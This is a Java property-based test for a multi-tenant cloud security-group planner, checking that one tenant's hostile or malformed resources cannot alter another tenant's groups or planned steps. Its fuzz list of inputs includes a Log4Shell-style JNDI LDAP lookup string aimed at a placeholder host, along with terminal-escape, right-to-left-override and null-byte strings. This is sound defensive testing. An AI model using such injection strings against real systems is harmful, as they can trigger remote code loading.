package dev.rolegate.topology;

import static dev.rolegate.topology.Documents.cidr;
import static dev.rolegate.topology.Documents.role;
import static dev.rolegate.topology.Documents.rsg;
import static dev.rolegate.topology.Documents.rule;
import static dev.rolegate.topology.Documents.tcp;
import static dev.rolegate.topology.Documents.vpc;
import static org.assertj.core.api.Assertions.assertThat;

import dev.rolegate.api.PeerSpec;
import dev.rolegate.api.PortSpec;
import dev.rolegate.api.RoleSecurityGroup;
import dev.rolegate.api.RuleSpec;
import dev.rolegate.api.TenantSpec;
import dev.rolegate.model.DesiredGroup;
import dev.rolegate.model.DesiredVpc;
import dev.rolegate.model.Direction;
import dev.rolegate.model.Group;
import dev.rolegate.model.LiveRule;
import dev.rolegate.model.Permission;
import dev.rolegate.model.PortRange;
import dev.rolegate.model.Protocol;
import dev.rolegate.model.VpcSnapshot;
import dev.rolegate.plan.Consent;
import dev.rolegate.plan.Planner;
import dev.rolegate.plan.Quotas;
import dev.rolegate.plan.Step;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;

/**
 * The invariant "independent", from documents to plan: whatever one tenant's resources hold, past
 * every check of the API server, the other tenants' groups are to become the same, by the same
 * steps in the same order.
 */
class HostileTenantTest {
  private static final String VPC = "vpc-0a1b2c3d4e5f60718";
  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "web",
          "shop/web",
          "Shop/WEB",
          "evil",
          "default",
          "sg-0a1b2c3d4e5f60718",
          "a\u0000b",
          "line\nbreak\u001b[31m",
          "\u202Eright to left",
          "\uD83D",
          "&<>'\"${jndi:ldap://192.0.2.1/a}%s{}",
          "*",
          "x".repeat(5000));
  private static final List<String> CIDRS =
      List.of("0.0.0.0/0", "::/0", "10.0.0.0/33", "10.0.0.1/8", "1.2.3", "", "\u0000", "fe80::/10");

  @Property(tries = 200)
  void noDocumentOfOneTenantChangesAnythingOfAnothers(@ForAll long seed) {
    Random random = new Random(seed);
    List<RoleSecurityGroup> victims = victims(random);
    List<RoleSecurityGroup> all = new ArrayList<>(victims);
    for (int i = random.nextInt(20); i >= 0; i--) {
      all.add(random.nextInt(all.size() + 1), hostile(random, i));
    }

    DesiredVpc alone = assemble(victims);
    DesiredVpc together = assemble(all);

    assertThat(ofShop(together)).isEqualTo(alone.groups());
    VpcSnapshot live = live(alone, random);
    assertThat(steps(together, live)).isEqualTo(steps(alone, live)).isNotEmpty();
  }

  private static DesiredVpc assemble(List<RoleSecurityGroup> resources) {
    TenantSpec shop = new TenantSpec(List.of("shop"), null, List.of("*"), null);
    TenantSpec evil = new TenantSpec(List.of("evil"), null, List.of("*"), null);
    var input =
        new Topology.Input(
            "test",
            vpc("prod", shop, evil),
            resources,
            Map.of(),
            AddressSets.NONE,
            java.time.Instant.EPOCH,
            Claims.NONE);
    return Topology.assemble(input).desired();
  }

  private static List<DesiredGroup> ofShop(DesiredVpc desired) {
    return desired.groups().stream().filter(g -> g.key().namespace().equals("shop")).toList();
  }

  private static List<RoleSecurityGroup> victims(Random random) {
    List<RoleSecurityGroup> victims = new ArrayList<>();
    for (String name : List.of("alb", "db", "web")) {
      var resource =
          rsg("shop", name)
              .created("2026-01-01T00:00:00Z")
              .groupId("sg-" + name)
              .ingress(
                  rule("https", tcp(443), cidr("10." + random.nextInt(9) + ".0.0/16")),
                  rule("peers", tcp(8080), role("alb"), role("web")));
      victims.add(resource.build());
    }
    return victims;
  }

  /** Its group does not exist yet, however early and loudly it asks for another tenant's. */
  private static RoleSecurityGroup hostile(Random random, int index) {
    var resource =
        rsg("evil", "e" + index)
            .role(text(random))
            .purpose(text(random))
            .groupName(random.nextInt(3) == 0 ? null : text(random))
            .created(random.nextBoolean() ? "1970-01-01T00:00:00Z" : text(random))
            .ingress(rules(random))
            .egress(rules(random));
    if (random.nextInt(5) == 0) {
      resource.deleted();
    }
    return resource.build();
  }

  private static RuleSpec[] rules(Random random) {
    int count = random.nextInt(20) == 0 ? 2000 : random.nextInt(5);
    return Stream.generate(() -> hostileRule(random)).limit(count).toArray(RuleSpec[]::new);
  }

  private static RuleSpec hostileRule(Random random) {
    PortSpec port =
        new PortSpec(
            random.nextBoolean() ? null : text(random),
            number(random),
            number(random),
            number(random),
            number(random));
    PeerSpec peer =
        switch (random.nextInt(5)) {
          case 0 -> role(text(random), random.nextBoolean() ? "shop" : text(random));
          case 1 -> Documents.prefixList(text(random));
          case 2 -> Documents.group(text(random), text(random));
          case 3 -> new PeerSpec(null, null, null, null, null);
          default -> cidr(CIDRS.get(random.nextInt(CIDRS.size())));
        };
    List<PortSpec> ports = random.nextInt(9) == 0 ? List.of() : List.of(port, tcp(443));
    return new RuleSpec(
        text(random), text(random), ports, List.of(peer, role("web", "shop")), null);
  }

  private static Integer number(Random random) {
    return switch (random.nextInt(4)) {
      case 0 -> null;
      case 1 -> Integer.MIN_VALUE;
      case 2 -> Integer.MAX_VALUE;
      default -> random.nextInt(70_000) - 1000;
    };
  }

  private static String text(Random random) {
    return TEXTS.get(random.nextInt(TEXTS.size()));
  }

  /** The victims' groups, of which each has a rule that nobody documented. */
  private static VpcSnapshot live(DesiredVpc desired, Random random) {
    List<Group> groups = new ArrayList<>();
    for (DesiredGroup group : desired.groups()) {
      Permission rogue =
          new Permission(
              Protocol.TCP,
              PortRange.single(1 + random.nextInt(100)),
              new dev.rolegate.model.Peer.PrefixList("pl-1"));
      groups.add(
          new Group(
              group.knownGroupId(),
              group.groupName(),
              group.description(),
              VPC,
              "111122223333",
              group.tags(),
              List.of(new LiveRule("sgr-1", Direction.INGRESS, rogue, "", Map.of(), true)),
              true));
    }
    return VpcSnapshot.of(VPC, false, groups);
  }

  /** What is done to the victims' groups, in order, and why. */
  private static List<String> steps(DesiredVpc desired, VpcSnapshot live) {
    return new Planner(new Quotas(60))
        .plan(desired, live, Map.of(), Consent.UNLIMITED).steps().stream()
            .filter(step -> step.group().key().namespace().equals("shop"))
            .map(HostileTenantTest::text)
            .toList();
  }

  private static String text(Step step) {
    return step.groups() + " " + step.action() + " " + step.effect() + " " + step.hold();
  }
}
